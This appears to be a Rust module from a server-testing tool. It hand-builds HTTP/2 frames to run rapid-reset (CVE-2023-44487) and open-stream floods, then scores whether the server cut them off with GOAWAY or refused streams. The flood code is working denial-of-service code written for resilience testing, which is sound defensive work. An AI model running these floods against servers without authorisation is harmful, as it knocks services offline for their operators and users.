//! HTTP/2 floods written frame by frame, so no client library paces them:
//! rapid reset (HEADERS then RST_STREAM, stream after stream, CVE-2023-44487)
//! and a stream flood (far more open streams than the server's
//! SETTINGS_MAX_CONCURRENT_STREAMS). The reader tallies what the server
//! sends back: responses, RST_STREAM and GOAWAY with their error codes.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::mpsc;

use crate::hostile::Tally;
use crate::wire::{Dialer, Transport};

/// The client connection preface.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const ACK: u8 = 0x1;
const CANCEL: u32 = 0x8;

/// Which flood.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// HEADERS (a complete GET) immediately followed by RST_STREAM(CANCEL).
    RapidReset,
    /// HEADERS without END_STREAM, never finished, never reset.
    OpenStreams,
}

/// What the server sent back on one connection.
#[derive(Debug, Default, Clone)]
pub struct ServerFrames {
    /// Response HEADERS frames.
    pub responses: u64,
    /// RST_STREAM frames, by error code.
    pub resets: std::collections::BTreeMap<u32, u64>,
    /// The GOAWAY error code, if one came.
    pub goaway: Option<u32>,
    /// The server closed the connection.
    pub closed: bool,
    /// Streams the client managed to send before the connection ended.
    pub streams_sent: u64,
}

/// A frame header plus payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// An HPACK block for `GET / ` with `:scheme` and `:authority localhost`,
/// static-table references and one literal without indexing.
fn get_block(tls: bool) -> Vec<u8> {
    let mut b = vec![0x82, 0x84, if tls { 0x87 } else { 0x86 }, 0x01, 9];
    b.extend_from_slice(b"localhost");
    b
}

/// Error code names for tallies.
pub fn error_name(code: u32) -> String {
    match code {
        0x0 => "NO_ERROR".into(),
        0x1 => "PROTOCOL_ERROR".into(),
        0x2 => "INTERNAL_ERROR".into(),
        0x7 => "REFUSED_STREAM".into(),
        0x8 => "CANCEL".into(),
        0xb => "ENHANCE_YOUR_CALM".into(),
        other => format!("0x{other:x}"),
    }
}

/// One flooding connection: sends `streams` streams of `flood` in batches
/// while reading the server's frames; stops when the server ends the
/// connection or `wait` passes after the last batch.
pub async fn flood_connection(
    dialer: &Dialer,
    transport: Transport,
    flood: Flood,
    streams: u32,
    wait: Duration,
) -> ServerFrames {
    let Ok(io) = dialer.connect(transport, true).await else {
        return ServerFrames {
            closed: true,
            ..ServerFrames::default()
        };
    };
    let (mut rd, mut wr) = tokio::io::split(io);
    let (tx, mut rx) = mpsc::channel::<Vec<u8>>(64);
    let writer = tokio::spawn(async move {
        let mut written = 0u64;
        while let Some(bytes) = rx.recv().await {
            if wr.write_all(&bytes).await.is_err() {
                break;
            }
            written += 1;
        }
        let _ = wr.shutdown().await;
        written
    });

    let mut start = PREFACE.to_vec();
    start.extend(frame(SETTINGS, 0, 0, &[]));
    let _ = tx.send(start).await;

    let acks = tx.clone();
    let reader = tokio::spawn(async move {
        let mut seen = ServerFrames::default();
        let mut buf = Vec::new();
        let mut chunk = vec![0u8; 32 * 1024];
        loop {
            let n = match rd.read(&mut chunk).await {
                Ok(0) | Err(_) => {
                    seen.closed = true;
                    return seen;
                }
                Ok(n) => n,
            };
            buf.extend_from_slice(&chunk[..n]);
            let mut at = 0;
            while buf.len() >= at + 9 {
                let len = u32::from_be_bytes([0, buf[at], buf[at + 1], buf[at + 2]]) as usize;
                if buf.len() < at + 9 + len {
                    break;
                }
                let (kind, flags) = (buf[at + 3], buf[at + 4]);
                let payload = &buf[at + 9..at + 9 + len];
                let code = |p: &[u8], off: usize| {
                    p.get(off..off + 4)
                        .map_or(0, |c| u32::from_be_bytes([c[0], c[1], c[2], c[3]]))
                };
                match kind {
                    HEADERS => seen.responses += 1,
                    RST_STREAM => *seen.resets.entry(code(payload, 0)).or_default() += 1,
                    GOAWAY => seen.goaway = Some(code(payload, 4)),
                    SETTINGS if flags & ACK == 0 => {
                        let _ = acks.try_send(frame(SETTINGS, ACK, 0, &[]));
                    }
                    PING if flags & ACK == 0 => {
                        let _ = acks.try_send(frame(PING, ACK, 0, payload));
                    }
                    DATA => {}
                    _ => {}
                }
                at += 9 + len;
            }
            buf.drain(..at);
        }
    });

    let tls = transport == Transport::Https;
    let block = get_block(tls);
    let mut sent = 0u64;
    let batch = 100u32;
    let mut id = 1u32;
    'send: while sent < u64::from(streams) {
        let mut bytes = Vec::with_capacity(batch as usize * 40);
        for _ in 0..batch.min(streams - sent as u32) {
            match flood {
                Flood::RapidReset => {
                    bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &block));
                    bytes.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
                }
                Flood::OpenStreams => bytes.extend(frame(HEADERS, END_HEADERS, id, &block)),
            }
            id += 2;
            sent += 1;
        }
        if reader.is_finished() || tx.send(bytes).await.is_err() {
            break 'send;
        }
        tokio::task::yield_now().await;
    }
    let reader_result = tokio::time::timeout(wait, reader).await;
    drop(tx);
    let _ = writer.await;
    let mut seen = match reader_result {
        Ok(Ok(seen)) => seen,
        _ => ServerFrames::default(),
    };
    seen.streams_sent = sent;
    seen
}

/// `conns` connections per transport, each flooding `streams` streams.
/// Clean: the server ended the connection with a GOAWAY, or refused the
/// excess streams, and never served more streams than it allows at once
/// (open streams) or more than it was sent.
pub async fn flood(dialer: Dialer, flood: Flood, conns: u32, streams: u32) -> Tally {
    let mut tasks = Vec::new();
    for c in 0..conns * 2 {
        let transport = if c % 2 == 0 {
            Transport::Http
        } else {
            Transport::Https
        };
        let dialer = dialer.clone();
        tasks.push(tokio::spawn(async move {
            let seen =
                flood_connection(&dialer, transport, flood, streams, Duration::from_secs(15)).await;
            (transport, seen)
        }));
    }
    let mut tally = Tally::default();
    let (mut sent_total, mut answered) = (0u64, 0u64);
    for t in tasks {
        let Ok((transport, seen)) = t.await else {
            continue;
        };
        sent_total += seen.streams_sent;
        answered += seen.responses;
        let resets: Vec<String> = seen
            .resets
            .iter()
            .map(|(code, n)| format!("{n} RST_STREAM {}", error_name(*code)))
            .collect();
        let ending = match seen.goaway {
            Some(code) => format!("GOAWAY {}", error_name(code)),
            None if seen.closed => "closed without GOAWAY".into(),
            None => "still open".into(),
        };
        let clean = match flood {
            // Bounded: the server stops the connection (GOAWAY) instead of
            // serving an endless stream of cancelled requests.
            Flood::RapidReset => seen.goaway.is_some(),
            // Bounded: excess streams refused or the connection ended.
            Flood::OpenStreams => {
                seen.goaway.is_some() || seen.resets.contains_key(&0x7) || seen.closed
            }
        };
        let class = format!(
            "{}: {ending}{}",
            transport.as_str(),
            if resets.is_empty() {
                String::new()
            } else {
                format!(", {}", resets.join(", "))
            }
        );
        tally.add_class(class, clean);
    }
    tally.figures.push((
        format!("{} streams sent", label(flood)),
        sent_total as f64,
        "streams".into(),
        format!(
            "streams the attacker wrote before the server ended each connection, {} connections",
            conns * 2
        ),
    ));
    tally.figures.push((
        format!("{} responses", label(flood)),
        answered as f64,
        "responses".into(),
        "response HEADERS frames the server sent on the flooding connections".into(),
    ));
    tally
}

fn label(flood: Flood) -> &'static str {
    match flood {
        Flood::RapidReset => "rapid reset",
        Flood::OpenStreams => "stream flood",
    }
}
